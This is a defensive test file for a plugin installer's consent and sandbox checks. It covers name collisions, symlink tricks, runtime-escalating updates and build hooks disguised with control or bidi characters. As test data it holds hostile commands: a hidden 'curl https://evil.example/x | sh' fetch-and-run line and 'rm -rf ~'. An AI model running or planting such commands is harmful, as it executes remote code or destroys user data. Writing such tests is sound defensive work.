// A hostile plugin author against the plugin service and the consent display: a name that differs
// from an installed one only by case, and a build hook that hides a second command from the person.
import { existsSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { describeConsent } from '../../electron/cli/consent-prompt.js';
import type { ConsentPrompt } from '../../electron/engine/plugins/consent-request.js';
import { PluginService } from '../../electron/engine/plugins/plugin-service.js';
import { NO_CAPABILITIES } from '../../shared/capabilities.js';
import { validateManifestText } from '../../shared/manifest/validate-manifest.js';
import { visibleText } from '../../shared/manifest/visible.js';
import { tempDir, writeTree } from '../support/temp.js';
import { wat2wasm } from '../support/wat.js';

let hello: Uint8Array;
beforeAll(async () => {
  hello = await wat2wasm('(module (memory (export "memory") 1) (func (export "_start")))');
});

function manifest(name: string, extra = ''): string {
  return `[plugin]
name = "${name}"
version = "1.0.0"
description = "d"
author = "a"
runtime = "wasm"
protocol = "fledge-v1"

[[commands]]
name = "cmd-${name.toLowerCase()}"
binary = "hello.wasm"
${extra}
[capabilities]
store = true
`;
}

const grantAll: ConsentPrompt = async () => ({
  granted: { ...NO_CAPABILITIES, store: true },
  allowBuild: false,
});

describe('names', () => {
  it('a plugin whose name differs from an installed one only by case is refused', async () => {
    const root = tempDir('hostile');
    const service = new PluginService(join(root, 'config'), root);
    await service.install(
      writeTree(join(root, 'a'), { 'plugin.toml': manifest('fledge-x'), 'hello.wasm': hello }),
      grantAll,
    );
    const evil = writeTree(join(root, 'b'), { 'plugin.toml': manifest('Fledge-X'), 'hello.wasm': hello });
    await expect(service.install(evil, grantAll)).rejects.toMatchObject({ code: 'plugin_exists' });
    expect(existsSync(join(root, 'config', 'plugins', 'Fledge-X'))).toBe(false);
  });

  it("a plugin named like another plugin's command, or reusing its commands, is refused", async () => {
    const root = tempDir('hostile');
    const service = new PluginService(join(root, 'config'), root);
    await service.install(
      writeTree(join(root, 'a'), { 'plugin.toml': manifest('fledge-x'), 'hello.wasm': hello }),
      grantAll,
    );
    // fledge-x's command is "cmd-fledge-x": a plugin NAMED that would win `run cmd-fledge-x`.
    const named = writeTree(join(root, 'b'), {
      'plugin.toml': manifest('cmd-fledge-x'),
      'hello.wasm': hello,
    });
    await expect(service.install(named, grantAll)).rejects.toMatchObject({ code: 'plugin_command_clash' });
    const sameCommand = writeTree(join(root, 'c'), {
      'plugin.toml': manifest('fledge-y').replace('name = "cmd-fledge-y"', 'name = "CMD-fledge-x"'),
      'hello.wasm': hello,
    });
    await expect(service.install(sameCommand, grantAll)).rejects.toMatchObject({
      code: 'plugin_command_clash',
    });
    const commandIsName = writeTree(join(root, 'd'), {
      'plugin.toml': manifest('fledge-z').replace('name = "cmd-fledge-z"', 'name = "fledge-x"'),
      'hello.wasm': hello,
    });
    await expect(service.install(commandIsName, grantAll)).rejects.toMatchObject({
      code: 'plugin_command_clash',
    });
    expect((await service.resolveRunnable('cmd-fledge-x')).name).toBe('fledge-x');
  });

  it('a plugin whose data/ became a link (installed by another tool) does not run', async () => {
    const root = tempDir('hostile');
    const service = new PluginService(join(root, 'config'), root);
    const out = await service.install(
      writeTree(join(root, 'a'), { 'plugin.toml': manifest('fledge-x'), 'hello.wasm': hello }),
      grantAll,
    );
    expect((await service.resolveRunnable('fledge-x')).name).toBe('fledge-x');
    symlinkSync('.', join(out.pluginDir, 'data'));
    await expect(service.resolveRunnable('fledge-x')).rejects.toMatchObject({ code: 'source_reserved_name' });
  });

  it('Windows device names, dot names and over-long names are not plugin names', () => {
    for (const name of [
      'CON',
      'nul',
      'Aux.txt',
      'com1',
      'LPT9.plugin',
      '..',
      '.staging',
      'a'.repeat(129),
      'x.',
    ]) {
      const check = validateManifestText(manifest(name));
      expect(
        check.errors.map((e) => e.path),
        name,
      ).toContain('plugin.name');
    }
    expect(validateManifestText(manifest('console')).errors).toEqual([]);
    const cmd = validateManifestText(
      manifest('fledge-x').replace('name = "cmd-fledge-x"', 'name = "lint\\u001b[8m"'),
    );
    expect(cmd.errors.map((e) => e.rule)).toEqual(['command-name-format']);
    expect(cmd.errors[0]!.message).not.toMatch(/\u001b/);
  });
});

describe('leaving the sandbox', () => {
  it('an update from a wasm plugin to a native one is refused, and the wasm version stays', async () => {
    const root = tempDir('hostile');
    const service = new PluginService(join(root, 'config'), root);
    const src = join(root, 'src');
    writeTree(src, { 'plugin.toml': manifest('fledge-x'), 'hello.wasm': hello });
    const out = await service.install(src, grantAll);
    writeTree(src, {
      'plugin.toml': manifest('fledge-x')
        .replace('runtime = "wasm"', 'runtime = "native"')
        .replace('version = "1.0.0"', 'version = "1.0.1"')
        .replace('hello.wasm', 'run.sh'),
      'run.sh': '#!/bin/sh\necho pwned\n',
    });
    // Even a prompt that says yes to everything (an unattended update keeps the old grants and says yes).
    await expect(service.update('fledge-x', grantAll)).rejects.toMatchObject({ code: 'update_unsandboxed' });
    const runnable = await service.resolveRunnable('fledge-x');
    expect(runnable.manifest.runtime).toBe('wasm');
    expect(runnable.manifest.version).toBe('1.0.0');
    expect(existsSync(join(out.pluginDir, 'run.sh'))).toBe(false);
  });

  it('a build that rewrites plugin.toml to another runtime is refused', async () => {
    const root = tempDir('hostile');
    const service = new PluginService(join(root, 'config'), root);
    const toml = manifest('fledge-b', '\n[hooks]\nbuild = "cp next.toml plugin.toml"\n');
    const src = writeTree(join(root, 'src'), {
      'plugin.toml': toml,
      'next.toml': toml.replace('runtime = "wasm"', 'runtime = "native"'),
      'hello.wasm': hello,
    });
    const allowBuild: ConsentPrompt = async () => ({
      granted: { ...NO_CAPABILITIES, store: true },
      allowBuild: true,
    });
    await expect(service.install(src, allowBuild)).rejects.toMatchObject({ code: 'build_changed_runtime' });
    expect(existsSync(join(root, 'config', 'plugins', 'fledge-b'))).toBe(false);
  });
});

describe('the build hook shown is the one that runs, visibly', () => {
  const hidden = 'cargo build --release\r\u001b[2Kcurl https://evil.example/x | sh\u202e';
  const request = (buildHook: string) => {
    const m = validateManifestText(manifest('fledge-x', `\n[hooks]\nbuild = ${JSON.stringify(buildHook)}\n`));
    expect(m.manifest).not.toBeNull();
    return {
      manifest: m,
      text: describeConsent({
        manifest: m.manifest!,
        source: '/src',
        tier: 'local',
        requests: [],
        buildHook: m.manifest!.hooks.build ?? null,
        update: null,
      }),
    };
  };

  it('control and bidi characters are escaped in the consent text, and the manifest warns', () => {
    const { manifest: m, text } = request(hidden);
    expect(m.manifest!.hooks.build).toBe(hidden);
    expect(text).not.toMatch(/[\r\u001b\u202e]/);
    expect(text).toContain('cargo build --release\\r\\e[2Kcurl https://evil.example/x | sh\\u{202E}');
    expect(m.warnings.map((w) => w.rule)).toContain('hidden-characters');
  });

  it('a newline hiding a second line is shown as \\n', () => {
    const { text } = request('make\nrm -rf ~');
    expect(text).toContain('make\\nrm -rf ~');
  });

  it('an unknown key made of escape sequences is reported escaped', () => {
    const m = validateManifestText(`${manifest('fledge-x')}\n[hooks]\n"\\u001b[2J\\r" = "x"\n`);
    const unknown = m.warnings.filter((w) => w.rule === 'unknown-key');
    expect(unknown.map((w) => w.path)).toEqual(['hooks.\\e[2J\\r']);
    expect(unknown[0]!.message).not.toMatch(/[\u001b\r]/);
  });

  it('plain commands are shown unchanged', () => {
    expect(visibleText('cargo build --target wasm32-wasip1 --release && echo "ok"\t')).toBe(
      'cargo build --target wasm32-wasip1 --release && echo "ok"\\t',
    );
  });
});
